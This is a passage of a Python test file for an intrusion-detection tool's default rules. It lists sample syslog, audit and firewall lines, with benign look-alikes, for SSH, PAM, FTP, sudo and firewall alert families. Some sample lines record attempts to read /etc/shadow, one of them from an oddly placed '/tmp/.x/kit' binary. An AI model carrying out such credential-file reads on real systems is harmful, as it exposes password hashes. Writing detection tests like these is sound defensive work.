"""
Tests for M-ICE's default detection content (C{mice/data/default/}, see
C{docs/detection.rst}): per family, true lines raise the family's alert ID in
both rule sets (the M-ICE rules and the LogIDS rules), and their benign
look-alikes raise nothing; and the C{[ALERT_<id>]} extension of the aa_regex
config and the C{alert=ID} extension of LogIDS actions they are written in.
"""

import os
import re
import sys
import time

from twisted.trial.unittest import SynchronousTestCase

from mice.alerts import Node
from mice.analysis.aaregex import AaRegexMatcher, naiveMatches
from mice.analysis.extract import addressesFor, nodesFor
from mice.analysis.logids import LogIdsEngine, loadFiles, parseAction, parseRules
from mice.config import ConfigError, detectKind, loadAaRegex, loadCountermeasure, loadMatchFile
from mice.config.ini import parseIni
from tests import ROOT

DEFAULT = os.path.join(ROOT, "mice", "data", "default")
REGEX_CONFIG = os.path.join(DEFAULT, "mice_mod_pop_aa_regex.conf")
MATCH_FILE = os.path.join(DEFAULT, "matchfiles", "match_file_default.txt")
LOGIDS = os.path.join(DEFAULT, "logids")

#: The informational IDs: classified, sent nowhere by the M-ICE rules, never
#: an alert or warning of the LogIDS rules.
INFORMATIONAL = (0x1010, 0x8030)

_H = "Nov 22 10:00:01 gate "
_WEB = '61.2.3.4 - - [22/Nov/2004:10:00:01 +0000] "GET '
_OK = '10.1.2.3 - - [22/Nov/2004:10:00:01 +0000] "GET '
_WEB_POST = _WEB.replace("GET", "POST")
_OK_POST = _OK.replace("GET", "POST")
# Access-log lines forwarded through syslog: nginx's access_log
# syslog:server=... (tag nginx:), Apache's CustomLog piped to logger.
_SYSLOG_WEB = 'Mar  8 05:22:28 web1 nginx: 89.231.227.233 - - [08/Mar/2024:05:22:28 +0100] "GET '
_SYSLOG_OK = ('2024-03-08T05:22:28.123456+01:00 web1 httpd[811]: 10.0.0.5 - bob'
              ' [08/Mar/2024:05:22:28 +0100] "GET ')
# HAProxy's HTTP log (option httplog) through syslog: the request last,
# after the status, bytes, termination state and queues; an IPv6 client
# unbracketed.
_HAPROXY = ('Mar  8 05:22:28 lb1 haproxy[2211]: 61.2.3.4:52311 [08/Mar/2024:05:22:28.123]'
            ' www~ app/web1 0/0/1/12/13 %s 4120 - - ---- 3/3/0/0/0 0/0 "GET ')
_HAPROXY6 = ('2024-03-08T05:22:28.123456+01:00 lb1 haproxy[2211]: 2001:db8::7:52311'
             ' [08/Mar/2024:05:22:28.123] https-in~ static/web2 10/0/30/69/109 %s +2750 - -'
             ' --NI 1/1/1/1/0 0/0 {example.org|Mozilla/5.0 (X11)} {} "GET ')
_HAPROXY_OK = ('Mar  8 05:22:28 lb1 haproxy[2211]: 10.1.2.3:40000 [08/Mar/2024:05:22:28.123]'
               ' www~ app/web1 0/0/1/12/13 %s 4120 - - ---- 3/3/0/0/0 0/0 "GET ')
# pf's filterlog (pfSense, OPNsense): rule, sub-rule, anchor, tracker,
# interface, reason, action, direction, IP version, then the packet.
_PF = "Mar  4 10:10:53 pfsense filterlog[37663]: 5,,,1000000103,vtnet0,match,"
_PF_TCP = ",in,4,0x0,,171,34350,0,DF,6,tcp,60,61.2.3.4,192.168.0.77,6563,23,0,S,2800280217,,64240"
# nginx's error log (2024/03/08 05:22:28 [error] pid#tid: *connection ...).
_NGINX = "2024/03/08 05:22:28 [error] 811#811: *5 "
_NGINX_INFO = "2024/03/08 05:22:28 [info] 811#811: *1 "
_NGINX_TAIL = ', client: 61.2.3.4, server: example.com, request: "GET /admin/ HTTP/1.1", host: "example.com"'
# The same through syslog (error_log syslog:server=...): the whole line
# after nginx's own header, with a priority when read off the wire.
_SYSLOG_NGINX = "Mar  8 05:22:28 web1 nginx: " + _NGINX

#: family: (alert IDs of the true lines, true lines, benign look-alikes).
FAMILIES = {
    "ssh failed password": ((0x1020,), [
        _H + "sshd[4711]: Failed password for root from 61.2.3.4 port 4242 ssh2",
        _H + "sshd[4711]: Failed password for invalid user admin from 2001:db8::7 port 4242 ssh2",
        # An empty user name, as OpenSSH logs it.
        _H + "sshd[4711]: Failed password for invalid user  from 61.2.3.4 port 4242 ssh2",
        "2024-03-01T10:00:01.123456+01:00 gate sshd-session[4711]: Failed publickey for"
        " john.doe from 61.2.3.4 port 4242 ssh2: RSA SHA256:abc",
        # A day not padded; Solaris' message tag; macOS' PAM; dropbear's lower case.
        "Jun 7 01:10:56 gate sshd[4711]: Failed password for root from 61.2.3.4 port 4242 ssh2",
        _H + "sshd[4711]: [ID 800047 auth.info] Failed keyboard-interactive for <invalid"
        " username> from 61.2.3.4 port 42742 ssh2",
        _H + "sshd[4711]: error: PAM: authentication error for james from 61.2.3.4 via"
        " 192.168.1.201",
        _H + "dropbear[4092]: bad password attempt for 'root' from 61.2.3.4:5543",
        # The client gave up: no method left, or a library's "Auth fail".
        _H + "sshd[4711]: error: Received disconnect from 61.2.3.4 port 1684:14: No supported"
        " authentication methods available [preauth]",
        _H + "sshd[4711]: Received disconnect from 61.2.3.4: 3: com.jcraft.jsch.JSchException:"
        " Auth fail",
        # A user name that reads like the rest of the message.
        _H + "sshd[4711]: Failed password for invalid user from 10.10.1.1 from 61.2.3.4 port"
        " 58946 ssh2",
        _H + "sshd[24439]: error: Received disconnect from 103.99.0.122: 14: No more user"
        " authentication methods available. [preauth]",
    ], [
        _H + "sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep"
        " sshd[1]: Failed password for /var/log/auth.log",
        _H + "sshd[4711]: Received disconnect from 61.2.3.4 port 4242:11: Bye Bye [preauth]",
    ]),
    "ssh invalid user": ((0x1021,), [
        _H + "sshd[50879]: Invalid user test user from 61.2.3.4 port 49020",
        _H + "sshd[12664]: Postponed keyboard-interactive for invalid user warez from 61.2.3.4 "
        "port 54197 ssh2 [preauth]",
        _H + "sshd[3186]: error: PAM: unknown user for illegal user badguy from 61.2.3.4",
        _H + "sshd[4711]: Invalid user oracle from 61.2.3.4 port 4242",
        _H + "sshd[4711]: Illegal user test from 61.2.3.4",
        _H + "sshd[4711]: input_userauth_request: invalid user oracle [preauth]",
        _H + "dropbear[1252]: login attempt for nonexistent user from ::ffff:61.2.3.4:60495",
        _H + "sshd[4711]: Disconnecting invalid user admin 61.2.3.4 port 44004: Change of"
        " username or service not allowed: (admin,ssh-connection) -> (user,ssh-connection)"
        " [preauth]",
        _H + "sshd[4711]: error: PAM: User not known to the underlying authentication module for"
        " illegal user admin from 61.2.3.4",
    ], [
        _H + "sshd[12664]: Postponed keyboard-interactive for john from 10.1.2.3 port 54197 ssh2 "
        "[preauth]",
        _H + "sshd[4711]: Connection closed by invalid-user.example.org port 22",
    ]),
    "root login refused": ((0x1022,), [
        _H + "sshd[4711]: fatal: Access denied for user root by PAM account configuration "
        "[preauth]",
        _H + "sshd[4711]: ROOT LOGIN REFUSED FROM 61.2.3.4 port 4242",
        _H + "sshd[4711]: User root from 61.2.3.4 not allowed because not listed in AllowUsers",
        _H + "login[811]: ROOT LOGIN REFUSED ON tty3",
        _H + "login[811]: pam_securetty(login:auth): access denied: tty 'pts/1' is not secure !",
        # sshd as "[sshd]", without host or pid, the colon optional.
        "Mar  3 00:17:22 [sshd]: User root from 61.2.3.4 not allowed because not listed in"
        " AllowUsers",
        "Jun 25 23:53:34 [sshd] User root from 61.2.3.4 not allowed because not listed in"
        " AllowUsers",
    ], [
        _H + "sshd[4711]: pam_unix(sshd:session): session opened for user root by (uid=0)",
        _H + "logger: [sshd] User root from 61.2.3.4 not allowed because not listed in"
        " AllowUsers",
    ]),
    "too many authentication failures": ((0x1023,), [
        _H + "sshd[4711]: Disconnecting invalid user test user 61.2.3.4 port 48544: Too many "
        "authentication failures [preauth]",
        _H + "sshd[4711]: error: maximum authentication attempts exceeded for root from"
        " 61.2.3.4 port 4242 ssh2 [preauth]",
        _H + "sshd[4711]: Disconnecting authenticating user root 61.2.3.4 port 4242: Too many"
        " authentication failures [preauth]",
        _H + "sshd[4711]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh"
        " ruser= rhost=61.2.3.4  user=root",
        _H + "dropbear[1335]: Exit before auth (user 'root', 10 fails): Max auth tries reached"
        " - user 'root' from 61.2.3.4:60588",
        # Dropbear 2019 and later.
        _H + "dropbear[1335]: Exit before auth from <61.2.3.4:60588>: Max auth tries reached"
        " - user 'root'",
        # Both the client and the count (busybox hosts).
        "Dec  5 02:50:31 nas authpriv.info dropbear[36340]: Exit before auth from"
        " <61.2.3.4:19306>: (user 'admin', 3 fails): Max auth tries reached - user 'admin'",
    ], [
        _H + "sshd[4711]: Disconnected from user alice 10.1.2.3 port 4242",
    ]),
    "crc32 compensation attack": ((0x7010,), [
        _H + "sshd[4711]: fatal: Local: crc32 compensation attack: network attack detected"
        " from 203.0.113.66 port 4122",
    ], [
        _H + "sshd[4711]: fatal: Read from socket failed: Connection reset by peer [preauth]",
    ]),
    "no identification string": ((0x1024,), [
        _H + "sshd[7006]: Connection reset by invalid user postgres 61.2.3.4 port 35541 [preauth]",
        _H + "sshd[19049]: error: Protocol major versions differ: 2 vs. 1",
        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 4242: invalid "
        "format [preauth]",
        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 4242: Connection "
        "corrupted [preauth]",
        _H + "sshd[4711]: Connection closed by invalid user test user 61.2.3.4 port 50649 "
        "[preauth]",
        _H + "sshd[4711]: Did not receive identification string from 61.2.3.4 port 4242",
        _H + "sshd[4711]: Bad protocol version identification 'GET / HTTP/1.1' from 61.2.3.4"
        " port 4242",
        # OpenSSH 8.2 and later.
        _H + "sshd[4711]: banner exchange: Connection from 61.2.3.4 port 4242: invalid format",
        _H + "sshd[4711]: error: kex_exchange_identification: client sent invalid protocol"
        " identifier \"GET / HTTP/1.1\"",
        _H + "sshd[4711]: error: kex_exchange_identification: Connection closed by remote host",
        _H + "sshd[4711]: error: kex_exchange_identification: read: Connection reset by peer",
        _H + "sshd[4711]: error: kex_exchange_identification: banner line contains invalid"
        " characters",
        # No banner before the timeout, or the connection reset (OpenSSH 8.2+).
        _H + "sshd[4711]: banner exchange: Connection from 61.2.3.4 port 4242: Connection"
        " timed out",
        _H + "sshd[4711]: banner exchange: Connection from 61.2.3.4 port 4242: Connection"
        " reset by peer",
        # An SSH-1 client: Nmap's probe.
        _H + "sshd[4711]: Protocol major versions differ for 61.2.3.4 port 4242:"
        " SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6 vs. SSH-1.5-Nmap-SSH1-Hostkey",
        _H + "sshd[4711]: banner exchange: Connection from 61.2.3.4 port 4242: Broken pipe",
        # Other connections that never authenticated: an invalid user's
        # (the "Invalid user" line before it is the 0x1021 the brute-force
        # rules count: this one is not counted again), one left at the
        # prompt until LoginGraceTime, and SSH spoken wrong (a fuzzer, a
        # scanner speaking another protocol after the key exchange).
        _H + "sshd[4711]: Connection closed by invalid user steam 61.2.3.4 port 25282"
        " [preauth]",
        _H + "sshd-session[4711]: Disconnected from invalid user ec2-user 2001:db8::7 port 51092"
        " [preauth]",
        _H + "sshd[4711]: Connection closed by invalid user  61.2.3.4 port 25282 [preauth]",
        _H + "sshd[4711]: Timeout before authentication for 61.2.3.4 port 44657",
        _H + "sshd[4711]: Bad packet length 1349676916. [preauth]",
        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 28985: message"
        " authentication code incorrect [preauth]",
        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 45166: Corrupted"
        " MAC on input. [preauth]",
        _H + "sshd[4711]: Disconnecting: Corrupted check bytes on input.",
        "1733354242.275700 k8s-node-7 sshd-session[16768]: fatal: Local: Corrupted check bytes"
        " on input.",
        # A client that offered only what the server refuses (old
        # algorithms: fail2ban's aggressive modes).
        _H + "sshd[4711]: Unable to negotiate with 61.2.3.4 port 50404: no matching MAC found."
        " Their offer: hmac-sha1,hmac-md5 [preauth]",
        _H + "sshd[4711]: fatal: Unable to negotiate with 61.2.3.4: no matching key exchange"
        " method found. Their offer: diffie-hellman-group1-sha1",
        _H + "sshd[4711]: fatal: Unable to negotiate a key exchange method [preauth]",
        _H + "sshd[4711]: fatal: no matching mac found: client hmac-md5 server hmac-sha2-256"
        " [preauth]",
        _H + "sshd[4711]: Disconnecting: bad client public DH value",
        _H + "sshd[212573]: fatal: Timeout before authentication for 61.2.3.4 port 46442",
    ], [
        # A client that left after (or before) a password asked for: the
        # failure, if any, is its own line; a disconnect is no attack (issue
        # 17's benign lines; two blind corpora of three say so).
        _H + "sshd[4711]: Connection closed by authenticating user alice 61.2.3.4 port 4242"
        " [preauth]",
        _H + "sshd[4711]: Disconnected from authenticating user root 61.2.3.4 port 33553"
        " [preauth]",
        _H + "sshd[4711]: Connection reset by authenticating user root 61.2.3.4 port 1558"
        " [preauth]",
        _H + "sshd[4711]: Server listening on :: port 22.",
        _H + "sshd[4711]: Disconnected from user alice 10.1.2.3 port 4242",
        _H + "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep"
        ' "Bad packet length" /var/log/secure',
        _H + "sshd[4711]: Connection from 61.2.3.4 port 4242 on 10.0.0.1 port 22 rdomain \"\"",
    ]),
    "pam failure": ((0x1025,), [
        _H + "sshd[4711]: pam_winbind(sshd:auth): request wbcLogonUser failed: "
        "WBC_ERR_AUTH_ERROR, PAM error: PAM_AUTH_ERR (7), NTSTATUS: NT_STATUS_WRONG_PASSWORD, "
        "Error message was: The attempted logon is invalid.",
        _H + "sshd[12374]: pam_winbind(sshd:auth): user 'CORP\\m.rossi' denied access (incorrect "
        "password or invalid membership)",
        # RHEL's system-auth: pam_succeed_if after pam_unix refused the password.
        _H + 'sshd[2738]: pam_succeed_if(sshd:auth): requirement "uid >= 1000" not met by user '
        '"root"',
        # util-linux login's later wording; polkit's helper and daemon.
        _H + "login[811]: FAILED LOGIN SESSION FROM tty3 FOR ops, Authentication failure",
        _H + "polkit-agent-helper-1[3096]: polkit-agent-helper-1: pam_authenticate failed:"
        " Authentication failure",
        _H + "polkitd[1836]: Operator of unix-session:7 FAILED to authenticate to gain"
        " authorization for action org.freedesktop.policykit.exec for unix-process:386:2223"
        " [/usr/bin/bash] (owned by unix-user:ops)",
        _H + "sshd[4711]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0"
        " tty=ssh ruser= rhost=61.2.3.4  user=root",
        _H + "dovecot[811]: pam_unix(dovecot:auth): authentication failure; logname= uid=0"
        " euid=0 tty=dovecot ruser=bob rhost=::ffff:61.2.3.4  user=bob",
        # PAM's message as Dovecot's auth worker passes it on.
        _H + "dovecot[811]: auth-worker(7800): pam_unix(dovecot:auth): authentication failure;"
        " logname= uid=0 euid=0 tty=dovecot ruser=sales rhost=61.2.3.4",
        _H + "vsftpd(pam_unix)[4711]: authentication failure; logname= uid=0 euid=0 tty=ftp"
        " ruser=anon rhost=61.2.3.4",
        _H + "sudo: pam_unix(sudo:auth): authentication failure; logname=a.b uid=1000 euid=0"
        " tty=/dev/pts/0 ruser=a.b rhost=  user=a.b",
        _H + "login[811]: FAILED LOGIN 1 FROM tty1 FOR root, Authentication failure",
        # Older and other PAM spellings.
        _H + "pure-ftpd: (pam_unix) authentication failure; logname= uid=0 euid=0 tty=pure-ftpd"
        " ruser=sample-user rhost=61.2.3.4",
        _H + "vsftpd: pam_unix: authentication failure; logname= uid=0 euid=0 tty=ftp"
        " ruser=an8767 rhost=www.example.com",
        _H + "daemon: pam_unix(auth): authentication failure; logname= uid=0 euid=0 tty=xxx"
        " ruser= rhost=61.2.3.4 user=test",
        # A TAI64 time stamp (daemontools' multilog), as Dovecot's own log may have it.
        "@400000004c91b044077a9e94 dovecot-auth: pam_unix(dovecot:auth): authentication"
        " failure; logname= uid=0 euid=0 tty=dovecot ruser=web rhost=61.2.3.4",
        # SSSD (a wrong password, an unknown user), nss-pam-ldapd, the
        # password helper, google-authenticator's module.
        _H + "sshd[4711]: pam_sss(sshd:auth): received for user pi: 7 (Authentication failure)",
        _H + "sshd[4711]: pam_sss(sshd:auth): received for user ghost: 10 (User not known to"
        " the underlying authentication module)",
        _H + "sshd[4711]: pam_ldap(sshd:auth): Authentication failure; user=alice",
        _H + "unix_chkpwd[4712]: password check failed for user (pi)",
        _H + "sshd(pam_google_authenticator)[4711]: Invalid verification code for web-admin",
        # The unknown user's check (no remote host: the brute-force rules
        # cannot count it, the line is still a failure).
        _H + "sshd[24200]: pam_unix(sshd:auth): check pass; user unknown",
        "Jun 14 15:16:02 combo sshd(pam_unix)[19937]: check pass; user unknown",
        # Dovecot's auth process (not a worker) logging for PAM.
        "Dec  8 14:20:18 mail01 dovecot: auth: pam_unix(dovecot:auth): authentication failure;"
        " logname= uid=0 euid=0 tty=dovecot ruser=maria.garcia rhost=fd00:1337::10",
    ], [
        # lightdm's pam_succeed_if of its password-less group: not met is the
        # usual password path, no failure (only RHEL's uid >= N after pam_unix is).
        "Aug  8 23:05:51 laptop lightdm: pam_succeed_if(lightdm:auth): requirement \"user ingroup "
        "nopasswdlogin\" not met by user \"alice\"",
        _H + 'sshd[2738]: pam_succeed_if(sshd:account): requirement "user ingroup staff" was met '
        'by user "bob"',
        _H + "sshd[4711]: pam_sss(sshd:auth): authentication success; logname= uid=0 euid=0"
        " tty=ssh ruser= rhost=10.1.2.3 user=bob",
        _H + "sshd[4711]: pam_sss(sshd:auth): received for user bob: 0 (Success)",
        _H + "sshd(pam_google_authenticator)[4711]: Accepted google_authenticator for bob",
        _H + "unix_chkpwd[4712]: could not obtain user info (nobody)",
        _H + "CRON[4711]: pam_unix(cron:session): session closed for user root",
        _H + "sshd[4711]: pam_unix(sshd:session): session opened for user john.doe by (uid=0)",
        _H + "vsftpd: pam_unix: session opened for user anon",
    ]),
    "FTP login failed": ((0x102C,), [
        # vsftpd.log with a day of one digit.
        "Mon Jun  8 12:08:53 2020 [pid 27244] [user] FAIL LOGIN: Client \"::ffff:61.2.3.4\"",
        "Mon Jun 8 12:08:53 2020 [pid 27244] [user] FAIL LOGIN: Client \"::ffff:61.2.3.4\"",
        _H + 'vsftpd[153114]: [anonymous] FAIL LOGIN: Client "::ffff:61.2.3.4"',
        'Fri Mar  8 13:01:25 2024 [pid 12497] [webmaster] FAIL LOGIN: Client "2001:db8::7"',
        'Sat Mar  9 07:26:55 2024 [pid 1775] [minecraft] FAIL LOGIN: Client "61.2.3.4", "User is'
        ' not in the allow user list."',
        _H + "proftpd[204296]: nas (::ffff:61.2.3.4[::ffff:61.2.3.4]) - USER ftpuser (Login"
        " failed): Incorrect password",
        _H + "proftpd[78049]: files (61.2.3.4[61.2.3.4]) - USER default: no such user found"
        " from 61.2.3.4 [61.2.3.4] to 10.0.0.1",
        _H + "pure-ftpd: (?@61.2.3.4) [WARNING] Authentication failed for user [ec2-user]",
        # ProFTPD: MaxLoginAttempts reached, RootLogin off.
        _H + "proftpd[28644]: files.example.com (dyn.example.net[61.2.3.4]) - Maximum login"
        " attempts (3) exceeded",
        _H + "proftpd[1163]: files.example.com (2001:db8::7[2001:db8::7]) - SECURITY"
        " VIOLATION: Root login attempted",
        # ProFTPD without the colon after its pid, the client before "): ".
        _H + "proftpd[31806] proftpd.lab.ossec.net (61.2.3.4[61.2.3.4]): USER abad: no such"
        " user found from 61.2.3.4 [61.2.3.4] to proftpd.lab.ossec.net:21",
        _H + "proftpd[12345] myhost.domain.com (61.2.3.4[61.2.3.4]): USER username (Login"
        " failed): User in /etc/ftpusers",
        _H + "proftpd[15719] ftp.example.com.au (::ffff:61.2.3.4[::ffff:61.2.3.4]): SECURITY"
        " VIOLATION: root login attempted.",
        # ProFTPD's own SystemLog (milliseconds after a comma).
        "2021-05-28 18:08:34,399 mantis proftpd[498819] mantis (61.2.3.4[61.2.3.4]): USER seb"
        " (Login failed): Incorrect password",
    ], [
        _H + "proftpd[15719] ftp.example.com.au (10.1.2.3[10.1.2.3]): FTP session opened.",
        _H + "proftpd[28644]: files.example.com (10.1.2.3[10.1.2.3]) - FTP session opened.",
        _H + 'vsftpd[153114]: [bob] OK LOGIN: Client "10.1.2.3"',
        'Fri Mar  8 13:01:25 2024 [pid 12497] [bob] OK LOGIN: Client "10.1.2.3"',
        _H + "proftpd[204296]: nas (10.1.2.3[10.1.2.3]) - USER bob: Login successful.",
        _H + "pure-ftpd: (?@10.1.2.3) [INFO] bob is now logged in",
    ]),
    "su/sudo failure": ((0x1029,), [
        _H + "su: FAILED SU (to root) alice on /dev/pts/0",
        _H + "su[123]: pam_authenticate: Authentication failure",
        _H + "su[123]: FAILED su for root by alice",
        _H + "su[123]: - /dev/pts/0 alice:root",
        _H + "sudo:    alice.smith : 3 incorrect password attempts ; TTY=pts/0 ;"
        " PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
        # doas (OpenBSD's; Alpine, Arch); busybox's su.
        _H + "doas[3854]: failed auth for dmitri",
        _H + "doas: failed password for ddp",
        "Dec  5 03:25:47 nas auth.notice su[36998]: 'su root' failed for carol on /dev/pts/3",
    ], [
        _H + "doas[3854]: alice ran command ls as root from /home/alice",
        _H + "su: (to root) alice on /dev/pts/0",
        _H + "su[123]: + /dev/pts/0 alice:root",
        _H + "su[123]: Successful su for root by alice",
        _H + 'sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep'
        ' "3 incorrect password attempts" /var/log/secure',
    ]),
    "unauthorised sudo": ((0x102A,), [
        _H + "doas[3854]: command not permitted for www-data: cat /etc/shadow",
        _H + "doas: failed command for ddp2: ls",
        _H + "sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ;"
        " COMMAND=/bin/bash",
        _H + "sudo[999]:      bob : command not allowed ; PWD=/home/bob ; USER=root ;"
        " COMMAND=/bin/bash",
    ], [
        _H + "sudo:      bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
    ]),
    "audit denial": ((0x5030,), [
        _H + "setroubleshoot[1234]: SELinux is preventing /usr/sbin/httpd from read access on"
        " the file index.html. For complete SELinux messages run: sealert -l 5b8e1d2c-0f3a",
        "type=AVC msg=audit(1101081601.020:24001): avc:  denied  { read } for  pid=123"
        ' comm="httpd" name="shadow" tclass=file permissive=0',
        _H + 'kernel: audit: type=1400 audit(1101081601.020:24001): apparmor="DENIED"'
        ' operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=1 comm="cupsd"',
        "type=SYSCALL msg=audit(1101081601.020:24001): arch=c000003e syscall=2 success=no"
        " exit=-13 a0=7f items=1 ppid=1 pid=2 auid=0 uid=0 comm=\"kit\" exe=\"/tmp/.x/kit\""
        ' key="shadow"',
        "type=USER_AUTH msg=audit(1101081601.020:24001): pid=1 uid=0 auid=4294967295 ses=1"
        " msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=61.2.3.4"
        " addr=61.2.3.4 terminal=ssh res=failed'",
        "type=SYSCALL msg=audit(12/01/2024 00:00:01.123:456) : arch=x86_64 syscall=openat"
        " success=no exit=EACCES(Permission denied) a0=AT_FDCWD items=1 ppid=1 pid=2 auid=bob"
        " uid=bob comm=cat exe=/usr/bin/cat key=(null)",
        _H + "audit[812]: AVC avc:  denied  { read } for  pid=812 comm=\"httpd\" name=\"shadow\""
        " tclass=file permissive=0",
        "type=USER_AVC msg=audit(1101081601.020:24001): pid=1 uid=81 auid=4294967295 msg='avc: "
        " denied  { send_msg } for msgtype=method_call exe=\"/usr/bin/dbus-daemon\"'",
    ], [
        "type=SYSCALL msg=audit(1101081601.020:24001): arch=c000003e syscall=2 success=no"
        ' exit=-2 a0=7f items=1 ppid=1 pid=2 auid=1000 uid=0 comm="ls" exe="/bin/ls"'
        " key=(null)",
        "type=USER_AUTH msg=audit(1101081601.020:24001): pid=1 uid=0 auid=4294967295 ses=1"
        " msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=10.1.2.3"
        " addr=10.1.2.3 terminal=ssh res=success'",
        _H + "setroubleshoot[1234]: AnalyzeThread.run(): Set alarm timeout to 10",
    ]),
    "audit watched file": ((0x5040,), [
        "type=SYSCALL msg=audit(1101081601.020:24001): arch=c000003e syscall=2 success=yes"
        ' exit=3 a0=7f items=1 ppid=1 pid=2 auid=1000 uid=0 comm="vi" exe="/usr/bin/vi"'
        ' key="shadow"',
        # As ausearch -i prints it: the time, names and the key interpreted;
        # a failure other than a denial.
        "type=SYSCALL msg=audit(03/05/2024 10:46:50.328:39675) : arch=x86_64 syscall=openat"
        " success=yes exit=3 a0=AT_FDCWD a1=0x7ffc a2=O_WRONLY|O_CREAT a3=0x1b6 items=2"
        " ppid=811 pid=812 auid=alice uid=root gid=root euid=root comm=vi exe=/usr/bin/vim"
        " key=identity",
        "type=SYSCALL msg=audit(03/05/2024 10:46:50.328:39676) : arch=x86_64 syscall=unlink"
        " success=no exit=ENOENT(No such file or directory) a0=0x7ffc items=1 ppid=811"
        " pid=812 auid=alice uid=root comm=rm exe=/usr/bin/rm key=identity",
    ], [
        "type=SYSCALL msg=audit(1101081601.020:24001): arch=c000003e syscall=2 success=yes"
        ' exit=3 a0=7f items=1 ppid=1 pid=2 auid=1000 uid=0 comm="vi" exe="/usr/bin/vi"'
        " key=(null)",
        'type=PATH msg=audit(1101081601.020:24001): item=0 name="/etc/shadow" inode=175576'
        " dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=SYSCALL msg=audit(03/05/2024 10:46:50.328:39675) : arch=x86_64 syscall=openat"
        " success=yes exit=3 a0=AT_FDCWD items=2 ppid=811 pid=812 auid=alice uid=root"
        " comm=vi exe=/usr/bin/vim key=(null)",
        # A rule on a system call alone (CIS's adjtimex -k time-change): no path,
        # no file accessed; chronyd sets it off all day.
        "type=SYSCALL msg=audit(1733685349.695:6224): arch=c000003e syscall=159 success=yes"
        " exit=0 a0=7ffd5c1e2b40 a1=0 a2=0 a3=0 items=0 ppid=1 pid=442 auid=4294967295"
        ' uid=992 comm="chronyd" exe="/usr/sbin/chronyd" key="time-change"',
        # A key that logs every command (-S execve -k exec): an audit trail.
        "type=SYSCALL msg=audit(1733685349.695:6225): arch=c000003e syscall=59 success=yes"
        " exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=811 pid=812 auid=1000 uid=1000"
        ' comm="ls" exe="/usr/bin/ls" key="exec"',
        "type=SYSCALL msg=audit(1733685349.695:6226): arch=c000003e syscall=59 success=yes"
        " exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=811 pid=812 auid=1000 uid=1000"
        ' comm="git" exe="/usr/bin/git" key=audit-wazuh-c',
    ]),
    "firewall drop": ((0x8010,), [
        _H + "kernel: [86400.684821] SuSE-FW-DROP-DEFAULT IN=eth0 OUT= MAC=a2 SRC=61.110.46.148"
        " DST=10.0.247.125 LEN=414 TOS=0x00 PREC=0x00 TTL=77 ID=38446 PROTO=UDP SPT=6537"
        " DPT=1434 LEN=394",
        _H + "kernel: [UFW BLOCK] IN=eth0 OUT= MAC=a2 SRC=2001:db8::1 DST=2001:db8::2 LEN=414"
        " TC=0 HOPLIMIT=64 FLOWLBL=0 PROTO=TCP SPT=6537 DPT=22 WINDOW=1 RES=0x00 SYN URGP=0",
        # ConfigServer Firewall's invalid packets and port floods.
        _H + "kernel: [1572900.962418] Firewall: *INVALID* IN=eth0 OUT= MAC=f4 SRC=61.2.3.4"
        " DST=192.0.2.1 LEN=44 TOS=0x00 PREC=0x00 TTL=110 ID=17128 PROTO=TCP SPT=56666 DPT=5555",
        _H + "kernel: Firewall: *Port Flood* IN=eth0 OUT= MAC=52 SRC=61.2.3.4 DST=192.0.2.1"
        " LEN=69 TOS=0x00 PREC=0x00 TTL=50 ID=1 PROTO=UDP SPT=53 DPT=53 LEN=49",
        # pf's filterlog (pfSense, OPNsense): IPv4, IPv6.
        _PF + "block" + _PF_TCP,
        _PF + "block,in,6,0x00,0x00000,255,ipv6-icmp,58,32,2001:db8::1,ff02::1,ICMPv6,"
        "neighbor-advertisement",
        # EdgeOS and VyOS: the rule set's name, the rule, D (drop).
        _H + "kernel: [WAN_LOCAL-default-D]IN=eth0 OUT= MAC=44:d9:e7:aa:bb:cc SRC=61.2.3.4"
        " DST=203.0.113.9 LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=TCP SPT=41234"
        " DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0",
    ], [
        "Nov 22 10:00:01 dropzone kernel: [86400.684821] iptables-in IN=eth0 OUT="
        " SRC=61.110.46.148 DST=10.0.247.125 LEN=414 TOS=0x00 PREC=0x00 TTL=77 ID=38446"
        " PROTO=TCP SPT=6537 DPT=22 LEN=394",
    ]),
    "firewall reject": ((0x8020,), [
        _H + "kernel: FINAL_REJECT: IN=eth0 OUT= MAC=a2 SRC=61.110.46.148 DST=10.0.247.125"
        " LEN=414 TOS=0x00 PREC=0x00 TTL=77 ID=38446 PROTO=UDP SPT=6537 DPT=1434 LEN=394",
        _PF + "reject" + _PF_TCP,
        _H + "kernel: [WAN_IN-20-R]IN=eth0 OUT=eth1 SRC=61.2.3.4 DST=192.168.1.9 LEN=44"
        " TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=TCP SPT=41234 DPT=445 WINDOW=1024",
    ], [
        # The words of a filterlog record in another program's message.
        _H + "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep"
        " match,block,in,4 /var/log/filterlog.log",
        _H + "kernel: e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx",
    ]),
    "firewall illegal": ((0x8040,), [
